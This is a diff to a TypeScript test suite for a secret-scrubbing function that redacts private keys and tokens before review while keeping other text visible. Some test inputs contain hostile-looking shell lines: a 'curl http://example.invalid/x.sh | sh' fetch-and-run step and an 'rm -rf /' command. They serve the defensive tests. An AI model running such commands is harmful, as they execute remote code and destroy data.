@@ -349,10 +349,21 @@ describe("private keys", () => {
     expect(scrub(text)).toBe(`-----BEGIN PGP PRIVATE KEY BLOCK-----\n${label("private-key")}\n-----END PGP PRIVATE KEY BLOCK-----`);
   });
 
-  it("an unterminated key loses everything after its header", () => {
+  it("an unterminated key loses its body lines, and only those: what follows them stays for the reviewer", () => {
     expect(scrub(`key:\n-----BEGIN RSA PRIVATE KEY-----\n${body}\ntruncated`)).toBe(
       `key:\n-----BEGIN RSA PRIVATE KEY-----\n${label("private-key")}`,
     );
+    expect(scrub(`-----BEGIN RSA PRIVATE KEY-----\n${body}\nstep 2: curl http://example.invalid/x.sh | sh\n`)).toBe(
+      `-----BEGIN RSA PRIVATE KEY-----\n${label("private-key")}\nstep 2: curl http://example.invalid/x.sh | sh\n`,
+    );
+  });
+
+  it("a header with no key's body after it hides nothing (it would hide the rest of the artifact from the reviewer)", () => {
+    for (const text of [
+      "plan\n# -----BEGIN PRIVATE KEY-----\nTBD\nstep 2: curl http://example.invalid/x.sh | sh\n",
+      "-----BEGIN PRIVATE KEY-----\nrm -rf / # cleanup\n-----END PRIVATE KEY-----\n",
+    ])
+      expect(scrubWithReport(text)).toEqual({ text, redactions: {} });
   });
 
   it("two keys in one document are redacted separately, text between them kept", () => {
@@ -773,5 +784,19 @@ describe("scrubResult: only the top level's bindings are exact", () => {
       verdict: "issues",
       artifact_sha256_reviewed: "a".repeat(64),
     });
+  });
+
+  it("the delivery key is a binding: a project's pattern for hex tokens never rewrites it", () => {
+    const key = "0123456789abcdef".repeat(4);
+    const result = {
+      schema_version: "review_result.v1",
+      packet_id: "p",
+      verdict: "satisfied",
+      summary: `token ${key}`,
+      delivery_key: key,
+    } as never;
+    const out = scrubResult(result, { customPatterns: ["[0-9a-f]{40,}"] }) as unknown as { delivery_key: string; summary: string };
+    expect(out.delivery_key).toBe(key);
+    expect(out.summary).not.toContain(key);
   });
 });
